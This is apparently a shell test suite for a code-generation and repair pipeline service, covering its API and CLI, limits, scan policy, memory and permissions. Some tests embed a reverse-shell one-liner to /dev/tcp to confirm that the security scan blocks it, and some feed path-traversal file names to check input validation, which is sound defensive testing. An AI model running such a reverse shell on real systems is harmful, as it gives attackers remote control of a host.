#!/bin/sh
# pipeline.sh - code generation pipelines over HTTP and by `atoll pipeline`.
. "$(dirname "$0")/daemon.lib"
slow_tests=an_endless_loop_is_repaired_by_the_search

# pipeline BODY [QUERY]: its report, in ./body
pipeline() { api POST "/v1/pipelines?wait=1" "$1"; is "$code" 200 "$body"; }
# documents ID: their kinds, in order
documents() { api GET "/v1/pipelines/$1" && get '[.documents[].kind] | join(" ")'; }
state_is() { api GET "/v1/pipelines/$1?documents=false" && [ "$(get .state)" = "$2" ]; }
as_key() { key=$1; }
# wheel NAME VERSION
wheel() {
	/usr/bin/python3 - "$@" <<-'PY'
		import os, sys, zipfile
		name, version = sys.argv[1:3]
		os.makedirs(f"simple/{name}", exist_ok=True)
		z = zipfile.ZipFile(f"simple/{name}/{name}-{version}-py3-none-any.whl", "w")
		z.writestr(f"{name}/__init__.py", f"version = '{version}'\n")
		d = f"{name}-{version}.dist-info"
		z.writestr(f"{d}/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")
		z.writestr(f"{d}/WHEEL", "Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
		z.writestr(f"{d}/RECORD", "")
		z.close()
	PY
}
serve_registry() {
	mkdir -p "$work/registry" && cd "$work/registry" || exit 1
	wheel polars 1.2.3
	/usr/bin/python3 -u -m http.server --bind 127.0.0.2 0 >"$work/registry.log" 2>&1 &
	echo $! >"$work/registry.pid"
	cd "$OLDPWD" || exit 1
	soon grep -q 'port [0-9]' "$work/registry.log"
	port=$(sed -n 's/.* port \([0-9]*\) .*/\1/p' "$work/registry.log" | head -1)
	export ATOLL_PIP_INDEX="http://127.0.0.2:$port/simple" ATOLL_EGRESS_INTERNAL="127.0.0.2:$port"
}

a_task_becomes_verified_code() {
	pipeline '{"task":"Write a Python script that computes the mean and median of a list of numbers"}'
	is "$(get .outcome) $(get .attempts)" "verified 1" "$body"
	is "$(get .output)" "mean: 2.8
median: 3"
	has "$(get '.artifact.files["main.py"]')" statistics
	is "$(documents "$(get .run_id)")" "task plan artifact result report"
	is "$(get .state)" finished
	is "$(get '[.documents[].document.seq] | join(" ")')" "1 2 3 4 5"
}

a_task_that_is_not_understood_is_reported() {
	pipeline '{"task":"brew a pot of coffee"}'
	is "$(get .outcome)" not_understood
	is "$(get .attempts)" 0
}

a_missing_package_is_installed_and_reported() {
	pipeline '{"task":"make it run","files":{"main.py":"import polars\nprint(polars.version)\n"}}'
	is "$(get .outcome) $(get .attempts) $(get .output)" "plausible 2 1.2.3" "$body"
	has "$(get '.evidence | join(";")')" "installed pip polars"
	run_id=$(get .run_id)
	is "$(documents "$run_id")" "task plan artifact result diagnosis artifact result report"
	# Each attempt is another artifact and names its parent.
	is "$(get '[.documents[] | select(.kind == "artifact") | .document.hash] | unique | length')" 2
	is "$(get '[.documents[] | select(.kind == "artifact") | .document] | .[1].parent == .[0].hash')" true
	is "$(get '[.documents[] | select(.kind == "diagnosis") | .document.category] | .[0]')" dependency_missing "$body"
}

a_wrong_program_is_repaired_by_its_examples() {
	pipeline '{"task":"fix it","files":{"main.py":"def add(a, b):\n    return a - b\n"},
		"examples":[{"call":"add(2, 3)","expected":"5"},{"call":"add(0, 1)","expected":"1"},{"call":"add(5, 5)","expected":"10"}]}'
	is "$(get .outcome) $(get .attempts)" "verified 2" "$body"
	has "$(get .why)" unseen
	has "$(get '.artifact.files["main.py"]')" "a + b"
	# The held-out example is not in the list of the program.
	is "$(get '.artifact.examples | length')" 2
}

a_repair_is_tried_in_copies_of_a_box() {
	new_box
	api POST "/v1/boxes/$box/execs" '{"command":"echo 0 >/home/user/zero"}'
	pipeline "{\"task\":\"fix it\",\"box\":\"$box\",\"files\":{\"main.py\":\"def add(a, b):\\n    return a - b + int(open('/home/user/zero').read())\\n\"},
		\"examples\":[{\"call\":\"add(2, 3)\",\"expected\":\"5\"},{\"call\":\"add(0, 1)\",\"expected\":\"1\"},{\"call\":\"add(5, 5)\",\"expected\":\"10\"}]}"
	is "$(get .outcome) $(get .attempts)" "verified 2" "$body"
	has "$(get '.artifact.files["main.py"]')" "a + b"
	api DELETE "/v1/boxes/$box"
}

examples_that_cannot_be_met_fail_with_a_category() {
	pipeline '{"task":"fix it","files":{"main.py":"print(input())\n"},"examples":[
		{"input":"a","expected":"rumpelstiltskin"},{"input":"b","expected":"a lark"}],"budget":{"max_attempts":2}}'
	is "$(get .outcome)" failed "$body"
	is "$(get .category)" wrong_output "$body"
	[ "$(get .attempts)" -le 2 ] || fail "too many attempts: $body"
}

a_program_that_passes_only_the_visible_examples_is_not_verified() {
	pipeline '{"task":"fix it","mode":"heuristic","files":{"main.py":"print({\"1\": \"2\", \"2\": \"4\"}[input()])\n"},"examples":[
		{"input":"1","expected":"2"},{"input":"2","expected":"4"},{"input":"3","expected":"6"}]}'
	is "$(get .outcome)" failed "$body"
	api GET /v1/pipelines/metrics
	[ "$(get '.overfit_rate > 0')" = true ] || fail "$body"
}

# hits LIMIT BODY
hits() {
	pipeline "$2"
	is "$(get .outcome)" failed "$body"
	api GET "/v1/pipelines/$(get .run_id)"
	is "$(get '[.documents[] | select(.kind == "result") | .document.limits_hit[]] | unique | join(" ")')" "$1" "$body"
}
an_exceeded_limit_is_identified_by_kernel_evidence() {
	hits time '{"task":"run it","files":{"main.py":"while True: pass\n"},"limits":{"run_ms":200},"budget":{"max_attempts":1}}'
	hits memory '{"task":"run it","files":{"main.py":"x = bytearray(300 << 20)\nprint(len(x))\n"},"limits":{"memory":67108864},"budget":{"max_attempts":1}}'
	hits output '{"task":"run it","files":{"main.py":"while True: print(\"x\" * 65536)\n"},"budget":{"max_attempts":1}}'
	# Output that claims an exceeded limit is no evidence.
	hits "" '{"task":"run it","files":{"main.py":"raise SystemExit(\"out of memory, timed out\")\n"},"budget":{"max_attempts":1}}'
}

code_that_the_scan_blocks_is_not_executed() {
	pipeline '{"task":"run it","files":{"main.py":"import os\nos.system(\"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\")\n"}}'
	is "$(get .outcome)" failed "$body"
	api GET "/v1/pipelines/$(get .run_id)"
	is "$(get '[.documents[] | select(.kind == "result") | .document | .phase, .phases[0].cause, .scan[0].action] | join(" ")')" \
		"scan policy block" "$body"
}

the_scan_policy_of_a_team_decides_about_findings() {
	wish='{"task":"run it","files":{"main.py":"import os\nprint(1) or os.path.exists(\"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\")\n"}}'
	scanned='[.documents[] | select(.kind == "result") | .document | .phase, .scan_policy, (.scan | length), .scan[0].action] | join(" ")'
	api GET /v1/pipelines/policy
	is "$(get '"\(.scan) \(.memory)"')" "block true"
	for how in warn off block; do
		api PUT /v1/pipelines/policy "{\"scan\":\"$how\"}"
		is "$code $(get .scan)" "200 $how" "$body"
		pipeline "$wish"
		api GET "/v1/pipelines/$(get .run_id)"
		get "$scanned" >>told
	done
	is "$(cat told)" "run warn 1 warn
run off 0 
scan block 1 block"
	api PUT /v1/pipelines/policy '{"scan":"loudly"}'
	is "$code" 400 "$body"
	api PUT /v1/pipelines/policy '{"scam":"off"}'
	is "$code" 400
	as_key "$editor"
	api PUT /v1/pipelines/policy '{"scan":"off"}'
	is "$code" 403
	api GET /v1/pipelines/policy
	is "$(get .scan)" block
	ATOLL_HOST="$url" ATOLL_KEY="$key" atoll pipeline policy --memory sometimes
	is "$status" 2 "$err"
	ATOLL_HOST="$url" ATOLL_KEY="$key" atoll pipeline policy
	has "$out" "scan    block"
}

earlier_fixes_are_shown_to_the_debugger() {
	wish='{"task":"repair the tally of pebbles","files":{"main.py":"def pebbles(a, b):\n    return a - b\n"},"examples":[
		{"call":"pebbles(2, 3)","expected":"5"},{"call":"pebbles(0, 1)","expected":"1"},{"call":"pebbles(5, 5)","expected":"10"}]}'
	recalled='[.documents[] | select(.kind == "diagnosis") | .document.evidence[] | select(.source == "memory").text] | length'
	api DELETE /v1/pipelines/memory # lessons of other tests
	for memory in true true false; do
		api PUT /v1/pipelines/policy "{\"memory\":$memory}"
		is "$code" 200 "$body"
		pipeline "$wish"
		is "$(get .outcome)" verified "$body"
		api GET "/v1/pipelines/$(get .run_id)"
		get "$recalled" >>told
	done
	is "$(tr '\n' ' ' <told)" "0 1 0 "
	# The lesson is not used for a program about something else, though both are repaired.
	api PUT /v1/pipelines/policy '{"memory":true}'
	pipeline '{"task":"repair the sum of apples","files":{"main.py":"def apples(a, b):\n    return a - b\n"},"examples":[
		{"call":"apples(2, 3)","expected":"5"},{"call":"apples(0, 1)","expected":"1"}]}'
	api GET "/v1/pipelines/$(get .run_id)"
	is "$(get "$recalled")" 0 "$body"
	api PUT /v1/pipelines/policy '{"memory":true}'
	api DELETE /v1/pipelines/memory
	is "$code" 204
	pipeline "$wish"
	api GET "/v1/pipelines/$(get .run_id)"
	is "$(get "$recalled")" 0
}

example_calls_are_tested_in_compiled_languages() {
	for language in go rust java; do
		case $language in
		go) file=main.go code='package main\n\nimport \"fmt\"\n\nfunc twice(x []int) []int {\n\tfor i := range x {\n\t\tx[i] *= 2\n\t}\n\treturn x\n}\n\nfunc main() {\n\tfmt.Println(twice([]int{1}))\n}\n' call='twice([]int{1, 4})' ;;
		rust) file=main.rs code='fn twice(x: Vec<i64>) -> Vec<i64> {\n    x.iter().map(|v| v * 2).collect()\n}\n\nfn main() {\n    println!(\"{:?}\", twice(vec![1]));\n}\n' call='twice(vec![1, 4])' ;;
		java) file=Main.java code='public class Main {\n    private static int[] twice(int[] x) {\n        for (int i = 0; i < x.length; i++) x[i] *= 2;\n        return x;\n    }\n    public static void main(String[] args) {\n        System.out.println(twice(new int[] {1})[0]);\n    }\n}\n' call='twice(new int[] {1, 4})' ;;
		esac
		case $language in java) tool=javac ;; rust) tool=rustc ;; *) tool=go ;; esac
		command -v $tool >/dev/null || continue
		pipeline "{\"task\":\"run it\",\"language\":\"$language\",\"files\":{\"$file\":\"$code\"},
			\"examples\":[{\"call\":\"$call\",\"expected\":\"[2, 8]\"},{\"call\":\"$call\",\"expected\":\"[2, 8]\"}]}"
		is "$(get .outcome) $(get .attempts)" "examples_pass 1" "$language: $body"
	done
}

long_output_is_truncated_in_the_middle() {
	pipeline '{"task":"run it","files":{"main.py":"print(\"first\")\nprint(\"x\" * 1000000)\nprint(\"last\")\n"}}'
	is "$(get .outcome)" plausible
	[ "$(get '.output | length')" -lt 60000 ] || fail "long"
	has "$(get .output | head -1)" first
	is "$(jq -j .output body | tail -1)" last
	has "$(get .output)" "bytes left out"
}

example_calls_and_tests_run_in_separate_boxes() {
	pipeline '{"task":"run it","files":{"main.py":"def twice(x):\n    return 2 * x\n"},
		"examples":[{"call":"twice(4)","expected":"8"},{"call":"twice([1])","expected":"[1, 1]"}],
		"tests":[{"path":"test_main.py","content":"from main import twice\n\ndef test_it():\n    assert twice(1) == 2\n"}]}'
	is "$(get .outcome) $(get .attempts)" "examples_pass 1" "$body"
	has "$(get .why)" "returned unchanged; nothing was tried beyond them"
	has "$(get '.evidence | join(";")')" "test test_main.py: passed"
	pipeline '{"task":"run it","language":"javascript","files":{"main.js":"function twice(x) { return 2 * x }\n"},
		"examples":[{"call":"twice(4)","expected":"8"},{"call":"twice(1.5)","expected":"3"}]}'
	if command -v node >/dev/null; then
		is "$(get .outcome)" examples_pass "$body"
	else
		is "$(get .outcome) $(get .category)" "failed interpreter_missing" "$body"
	fi
	pipeline '{"task":"run it","language":"c","files":{"main.c":"int twice(int x) { return 2 * x; }\nint main(void) { return 0; }\n"},
		"examples":[{"call":"twice(4)","expected":"8"},{"call":"twice(-1)","expected":"-2"}]}'
	is "$(get .outcome)" examples_pass "$body"
}

a_file_of_functions_needs_no_main() {
	for language in c go java; do
		case $language in
		c) file=main.c code='int twice(int x) { return 2 * x; }\n' tool=cc ;;
		go) file=calc.go code='package calc\n\nfunc twice(x int) int {\n\treturn 2 * x\n}\n' tool=go ;;
		java) file=Main.java code='static int twice(int x) {\n    return 2 * x;\n}\n' tool=javac ;;
		esac
		command -v $tool >/dev/null || continue
		pipeline "{\"task\":\"run it\",\"language\":\"$language\",\"files\":{\"$file\":\"$code\"},
			\"examples\":[{\"call\":\"twice(4)\",\"expected\":\"8\"},{\"call\":\"twice(-1)\",\"expected\":\"-2\"}]}"
		is "$(get .outcome) $(get .attempts)" "examples_pass 1" "$language: $body"
	done
}

# As pipeline(), for a pipeline that may take longer than one request waits.
pipeline_patiently() {
	api POST /v1/pipelines "$1"
	is "$code" 202 "$body"
	pipeline_id=$(get .id)
	for _ in 1 2 3 4 5 6; do
		api GET "/v1/pipelines/$pipeline_id?wait=1" || :
		[ "$code" != 200 ] || return 0
	done
	fail "$pipeline_id did not end: $code"
}
an_endless_loop_is_repaired_by_the_search() {
	pipeline_patiently '{"task":"fix it","limits":{"run_ms":1000},"files":{"main.py":"def f(n):\n    t = 0\n    while n != 0:\n        t += n\n        n -= 2\n    return t\n"},
		"examples":[{"call":"f(3)","expected":"6"},{"call":"f(1)","expected":"1"},{"call":"f(4)","expected":"10"},{"call":"f(7)","expected":"28"}]}'
	case $(get .outcome) in verified | plausible) ;; *) fail "$body" ;; esac
	has "$(get '.artifact.files["main.py"]')" "n -= 1"
}

a_language_without_repair_search_is_reported() {
	command -v ruby >/dev/null || skip "no ruby"
	pipeline '{"task":"fix it","language":"ruby","files":{"main.rb":"def add(a, b)\n  a - b\nend\n"},
		"examples":[{"call":"add(2, 3)","expected":"5"},{"call":"add(1, 1)","expected":"2"}]}'
	is "$(get .outcome)" failed "$body"
	has "$(get .why)" "there is no search for another program in Ruby"
	has "$(get .hint)" "serve.models"
	api GET "/v1/pipelines/$(get .run_id)"
	is "$(get '[.documents[] | select(.kind == "diagnosis") | .document.action.kind] | join(" ")')" stop "$body"
}

a_library_program_that_covers_only_part_of_the_task_is_not_verified() {
	pipeline '{"task":"download a file from a url"}'
	is "$(get .outcome)" plausible "$body"
	has "$(get '.evidence | join(";")')" "not shown: the task says 'file', and nothing of that was checked"
}

a_pipeline_waits_for_the_answer_to_its_question() {
	wish='{"task":"run it","files":{"main.py":"print(input().upper())\n"}}'
	pipeline "$wish"
	is "$(get .outcome) $(get .question.name)" "needs_input stdin" "$body"
	has "$(get .question.question)" "?"
	id=$(get .run_id)
	state_is "$id" waiting || fail "$body"
	api POST "/v1/pipelines/$id/answer" '{"name":"no-such-question","text":"x"}'
	is "$code" 409 "$body"
	api POST "/v1/pipelines/$id/answer" '{"name":"stdin"}'
	is "$code" 400 "$body"
	api POST "/v1/pipelines/$id/answer" '{"text":"shout\n"}'
	is "$code $(get .state)" "200 running" "$body"
	api GET "/v1/pipelines/$id?wait=1"
	is "$(get .outcome) $(get .output)" "plausible SHOUT" "$body"
	is "$(documents "$id")" "task plan artifact result diagnosis question answer plan artifact result report"
	api POST "/v1/pipelines/$id/answer" '{"text":"again"}'
	is "$code" 409 "$body"
	# A waiting pipeline can be cancelled, too.
	pipeline "$wish"
	api POST "/v1/pipelines/$(get .run_id)/cancel"
	is "$(get .outcome)" cancelled "$body"
}

events_list_every_stage_in_order() {
	curl -sS -N -X POST -H "X-API-Key: $key" -H 'Accept: application/x-ndjson' -H 'Content-Type: application/json' \
		-d '{"task":"mean and median of 3, 1 and 2 in Python"}' "$url/v1/pipelines" >events
	is "$(jq -r '.type' events | head -1)" run_started
	is "$(jq -r '.type' events | tail -1)" run_finished
	is "$(jq -r 'select(.type == "stage_finished") | .stage' events | tr '\n' ' ')" "planner coder executor orchestrator "
	is "$(jq -s '[.[].seq] == [range(1; length + 1)]' events)" true
	is "$(jq -r 'select(.type == "run_finished") | .report.outcome' events)" verified
	id=$(jq -r 'select(.type == "run_finished") | .report.run_id' events)
	# Events from a number on are the same as before.
	curl -sS -H "X-API-Key: $key" "$url/v1/pipelines/$id/events?follow=true&after=5" >rest
	sed 1,5d events | cmp - rest || fail "$(diff events rest)"
	curl -sS -H "X-API-Key: $key" -H 'Accept: text/event-stream' -H 'Last-Event-ID: 5' "$url/v1/pipelines/$id/events" >sse
	is "$(grep -c '^data: ' sse) $(grep -m1 '^id: ' sse)" "$(wc -l <rest | tr -d ' ') id: 6"
}

a_running_pipeline_can_be_cancelled() {
	api POST /v1/pipelines '{"task":"run it","files":{"main.py":"import time\ntime.sleep(60)\n"}}'
	is "$code" 202
	id=$(get .id)
	api GET '/v1/pipelines?limit=1' # has no outcome yet: the last test compares it with openapi.json
	is "$(get '.items[0] | "\(.id) \(.state) \(.outcome)"')" "$id running null" "$body"
	api DELETE "/v1/pipelines/$id"
	is "$code" 409 "$body"
	api POST "/v1/pipelines/$id/cancel"
	is "$code $(get .outcome)" "200 cancelled" "$body"
	api POST "/v1/pipelines/$id/cancel"
	is "$code $(get .outcome)" "200 cancelled"
	has "$(documents "$id")" report
	api DELETE "/v1/pipelines/$id"
	is "$code" 204
	api GET "/v1/pipelines/$id"
	is "$code" 404
}

a_pipeline_does_not_exceed_its_time_budget() {
	pipeline '{"task":"run it","files":{"main.py":"import time\ntime.sleep(60)\n"},"budget":{"max_wall_ms":300}}'
	is "$(get .outcome) $(get .category)" "failed budget" "$body"
}

a_replay_of_an_attempt_reports_whether_the_result_is_equal() {
	pipeline '{"task":"run it","files":{"main.py":"import polars\nprint(polars.version)\n"}}'
	id=$(get .run_id)
	api POST "/v1/pipelines/$id/replay" '{}'
	is "$code $(get .same) $(get .attempt)" "200 true 2" "$body"
	api POST "/v1/pipelines/$id/replay" '{"attempt":1}'
	is "$(get .same) $(get .now.success)" "true false" "$body"
	api POST "/v1/pipelines/$id/replay" '{"attempt":7}'
	is "$code" 409
	pipeline '{"task":"run it","files":{"main.py":"import time\nprint(time.time())\n"}}'
	api POST "/v1/pipelines/$(get .run_id)/replay" '{}'
	is "$(get .same)" false "$body"
}

a_race_returns_the_first_program_that_passes() {
	pipeline '{"task":"fix it","race":3,"files":{"main.py":"def add(a, b):\n    return a - b\n"},
		"examples":[{"call":"add(2, 3)","expected":"5"},{"call":"add(0, 1)","expected":"1"}]}'
	# Two examples: none can be held out.
	is "$(get .outcome)" plausible "$body"
	has "$(get '.artifact.files["main.py"]')" "a + b"
}

a_repeated_idempotency_key_creates_one_pipeline() {
	for i in 1 2; do
		api POST /v1/pipelines '{"task":"mean and median of 3, 1 and 2 in Python"}' -H 'Idempotency-Key: twice'
		is "$code" 202
		get .id >>ids
	done
	is "$(sort -u ids | wc -l | tr -d ' ')" 1
	api POST '/v1/pipelines?wait=1' '{"task":"mean and median of 3, 1 and 2"}' -H 'Idempotency-Key: thrice'
	first=$(get .run_id)
	api POST '/v1/pipelines?wait=1' '{"task":"mean and median of 3, 1 and 2"}' -H 'Idempotency-Key: thrice'
	is "$(get .run_id) $(get .outcome)" "$first verified" "$body"
}

an_invalid_pipeline_request_names_the_field() {
	while IFS='	' read -r doc word; do
		api POST /v1/pipelines "$doc"
		is "$code" 400 "$doc: $body"
		has "$body" "$word"
	done <<-'EOF'
		{}	task
		[]	object
		{"task":""}	task
		{"task":1}	task
		{"task":"x","colour":"red"}	colour
		{"task":"x","mode":"magic"}	mode
		{"task":"x","race":9}	race
		{"task":"x","examples":{}}	examples
		{"task":"x","examples":[{"input":"a"}]}	examples[0].expected
		{"task":"x","examples":[{"input":"a","call":"b()","expected":"c"}]}	examples[0]
		{"task":"x","examples":[{"expects":"c"}]}	examples[0].expects
		{"task":"x","files":{"../../etc/passwd":"x"}}	files
		{"task":"x","files":{"/etc/passwd":"x"}}	files
		{"task":"x","files":{"a":1}}	files.a
		{"task":"x","files":{"a":"1"},"entry":"b"}	entry
		{"task":"x","tests":[{"path":"a"}]}	tests[0]
		{"task":"x","packages":{"pip":"numpy"}}	packages.pip
		{"task":"x","limits":{"run_ms":"1"}}	limits.run_ms
		{"task":"x","limits":{"walls":1}}	limits.walls
		{"task":"x","budget":{"max_attempts":99}}	budget.max_attempts
		{"task":"x","network":true}	network
		{"task":"x","answers":{"a":[]}}	answers.a
	EOF
	head -c 70000 /dev/zero | tr '\0' x | jq -Rs '{task: .}' >long
	api POST /v1/pipelines @long
	is "$code" 400 "$body"
	api GET /v1/pipelines/nonsense
	is "$code" 404
	api GET '/v1/pipelines?limit=-1'
	is "$code" 400
}

teams_see_only_their_own_pipelines() {
	pipeline '{"task":"mean and median of 3, 1 and 2"}'
	id=$(get .run_id)
	api PUT /v1/teams/others '{}'
	theirs=$("$ATOLL" key new theirs --team others --state "$state" --quiet)
	mine=$key
	as_key "$theirs"
	for path in "" /events; do api GET "/v1/pipelines/$id$path"; is "$code" 404; done
	for path in answer cancel replay; do api POST "/v1/pipelines/$id/$path" '{"text":"x"}'; [ "$code" = 404 ] || [ "$code" = 400 ] || fail "$path: $code"; done
	api DELETE "/v1/pipelines/$id"
	is "$code" 404
	api GET /v1/pipelines
	is "$(get '.items | length')" 0
	api GET /v1/pipelines/metrics
	is "$(get .runs)" 0
	as_key "$mine"
	api GET /v1/pipelines
	has "$body" "$id"
	as_key "$viewer"
	api POST /v1/pipelines '{"task":"x"}'
	is "$code" 403
	api GET "/v1/pipelines/$id"
	is "$code" 200
	as_key "$mine"
	api GET '/v1/audit?limit=1000'
	has "$(get '[.items[].action] | unique | join(" ")')" pipeline.create
}

the_quota_of_executions_applies_to_pipelines() {
	api PUT /v1/teams/poor '{"executions_per_day":1}'
	mine=$key
	as_key "$("$ATOLL" key new poor --team poor --state "$state" --quiet)"
	pipeline '{"task":"mean and median of 3, 1 and 2"}'
	is "$(get .outcome)" verified "$body"
	pipeline '{"task":"mean and median of 3, 1 and 2"}'
	is "$(get .outcome)" failed "$body"
	as_key "$mine"
}

pipeline_metrics_show_success_rate_and_outcomes() {
	pipeline '{"task":"mean and median of 3, 1 and 2"}'
	api GET /v1/pipelines/metrics
	[ "$(get '.success_rate > 0 and .runs > 0 and .attempts_per_success >= 1 and .stage_ms.executor > 0')" = true ] || fail "$body"
	[ "$(get '.outcomes.verified > 0')" = true ] || fail "$body"
	api GET /metrics
	has "$body" 'atoll_pipeline_runs_total{outcome="verified"}'
	has "$body" atoll_pipeline_executor_seconds
	api GET '/v1/pipelines?limit=1'
	is "$(get '.items | length')" 1
	next=$(get .next)
	api GET "/v1/pipelines?limit=1&after=$next"
	is "$(get '.items | length')" 1 "$body"
	pattern='\[pipeline [a-z2-7]*\] \[executor\] \[attempt 1/3\] passed'
	grep -q "$pattern" "$work/serve.log" || fail "no such line: $pattern"
}

atoll_pipeline_prints_each_stage() {
	export ATOLL_HOST="$url" ATOLL_KEY="$key"
	atoll pipeline run 'the mean and the median of 3, 1 and 2, in Python'
	is "$status" 0 "$err"
	has "$err" "✓ executor"
	has "$err" "verified"
	has "$out" "median: 2"
	atoll pipeline run 'brew a pot of coffee'
	is "$status" 1
	has "$err" "✗ planner"
	printf 'def add(a, b):\n    return a - b\n' >broken.py
	atoll pipeline run 'make it work' --file broken.py --example 'add(2, 3)=>5' --example 'add(1, 0)=>1' --json
	is "$status" 0 "$err"
	has "$(jq -r '.artifact.files["broken.py"]' out)" "a + b"
	id=$(jq -r .run_id out)
	atoll pipeline ls -q
	has "$out" "$id"
	atoll pipeline show "$id"
	has "$out" "diagnosis  1  "
	atoll pipeline replay "$id"
	is "$status" 0 "$err"
	has "$out" "the same"
	atoll pipeline cancel "$id"
	is "$status" 0
	atoll pipeline answer "$id" x
	is "$status" 1
	atoll pipeline rm "$id"
	is "$status" 0
	atoll pipeline show "$id"
	[ "$status" != 0 ] || fail "it is still there"
	atoll pipeline run
	is "$status" 2
	unset ATOLL_HOST ATOLL_KEY
}

serve_registry
run_daemon_tests
kill "$(cat "$work/registry.pid")"
